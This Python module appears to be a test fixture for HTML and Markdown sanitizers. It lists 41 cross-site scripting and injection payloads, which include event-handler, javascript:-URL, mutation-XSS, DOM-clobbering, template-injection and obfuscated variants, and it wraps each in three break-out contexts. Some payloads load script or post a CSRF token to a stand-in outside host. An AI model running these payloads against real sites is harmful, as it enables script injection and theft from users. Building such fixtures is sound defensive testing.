"""Texts that try to become markup, script or a form: 41 cores in three wrappings make 123."""

from __future__ import annotations

CORES = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//elsewhere.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror\n=\nalert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object><embed src=//elsewhere.example/x.swf>",
    "<base href=//elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example/'>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<style>*{background:url(//elsewhere.example/x)}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<form action=//elsewhere.example/><input name=csrf_token><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=# hx-get=/id/ data-hx-post=/id/ hx-trigger=load>x</a>",
    "<div hx-on:load=alert(1) data-hx-on-load=alert(1) hx-ext=x>x</div>",
    "<div id=main class=shell name=body>x</div><a id=tulisan name=tulisan></a>",
    "<img name=getElementById><form name=querySelector id=cookie></form>",
    "<template><script>alert(1)</script></template><slot name=x></slot>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1)) [y](&#106;avascript:alert(1))",
    "![x](javascript:alert(1)) ![y](//elsewhere.example/y.png)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <vbscript:alert(1)>",
    "[x]: javascript:alert(1)\n[x]",
    "[x](https://example.org/\" onmouseover=alert(1) x=\")",
    "{{ 7*7 }} {% raw %} ${7*7} %(site)s {site.secret} %s",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "\u202e<\u200bscript>alert(1)</\u200bscript> ＜script＞alert(1)＜/script＞",
)  # fmt: skip
WRAPPINGS = ("{}", '"\'>{}<"', "</textarea></title></script></template>]]>-->{}<!--")


def payloads() -> list[str]:
    """All of them, each core in each wrapping."""
    return [wrapping.replace("{}", core) for core in CORES for wrapping in WRAPPINGS]
